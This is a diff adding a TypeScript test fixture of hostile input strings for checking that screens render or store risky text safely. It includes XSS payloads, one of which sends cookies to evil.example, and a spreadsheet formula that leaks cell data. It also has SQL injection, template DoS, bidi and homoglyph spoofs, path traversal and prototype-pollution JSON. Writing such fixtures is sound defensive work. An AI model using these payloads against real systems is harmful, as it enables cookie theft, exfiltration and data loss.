@@ -1,0 +1,47 @@
+const control = (code: number) => String.fromCharCode(code);
+const combining = "\u0301\u0323\u0334\u0489\u0360\u0345\u035c\u1dfd";
+
+/**
+ * Texts that break careless screens, by what they are: markup, direction, invisible characters,
+ * combining marks, length, control characters. None holds NUL, which PostgreSQL refuses.
+ */
+export const hostileTexts = {
+  script: `<script>document.title='owned'</script>`,
+  image: `<img src=x onerror="alert(document.domain)">`,
+  svg: `"><svg/onload=fetch('https://evil.example/'+document.cookie)>`,
+  frame: `<iframe srcdoc="<script>parent.postMessage('x','*')</script>"></iframe>`,
+  style: `<style>*{display:none!important}</style>`,
+  link: `javascript:alert(1)//https://www.larkfield.example`,
+  liquid: `{{ 'a' | repeat: 999999 }}{% for i in (1..999999999) %}x{% endfor %}`,
+  formula: `=HYPERLINK("https://evil.example/?"&A1,"Total")`,
+  query: `'; drop table events; --`,
+  bidi: `invoice\u202Egpj.exe\u202C \u2066left\u2069 \u200Fright`,
+  zeroWidth: `pay\u200Bpal\u200D.\u2060com\uFEFF\u00AD`,
+  combining: `Z${combining.repeat(12)}a${combining.repeat(12)}l${combining.repeat(12)}go`,
+  emoji: `👩🏽‍🚀👨‍👩‍👧‍👦🏳️‍🌈${"👍🏿".repeat(40)}`,
+  long: `Very${"long".repeat(1500)}`,
+  words: "no break ".repeat(600).trim(),
+  control: `bell${control(7)} escape${control(27)}[31mred${control(27)}[0m tab\t return\r\nline${control(0x85)}${control(0x9b)}`,
+  lookAlike: "Lаrkfield Suppоrt", // Cyrillic а and о
+  separators: `one\u2028two\u2029three\u000bfour\u000cfive`,
+  percent: "%s %n %00 %2e%2e%2f ../../etc/passwd \\..\\",
+  prototype: "__proto__",
+} as const;
+export type HostileKind = keyof typeof hostileTexts;
+
+/** A payload whose keys are as bad as its values; parsed, so that `__proto__` is a key of its own. */
+export const hostilePayload = JSON.parse(
+  JSON.stringify({
+    ...hostileTexts,
+    [hostileTexts.script]: "markup in a key",
+    [hostileTexts.bidi]: "direction in a key",
+    "": "empty key",
+    constructor: { prototype: { polluted: true } },
+    1: "number-like key",
+    "01": "almost",
+    numbers: [1e308, -0, 0.1, 9007199254740991],
+    empty: { list: [], object: {}, text: "", nothing: null },
+    deep: Array.from({ length: 40 }).reduce<unknown>((inner) => ({ inner }), "bottom"),
+    nested: JSON.stringify({ inner: JSON.stringify({ most: hostileTexts.image }) }),
+  }).replace(/^\{/, '{"__proto__":{"polluted":true},'),
+) as Record<string, unknown>;
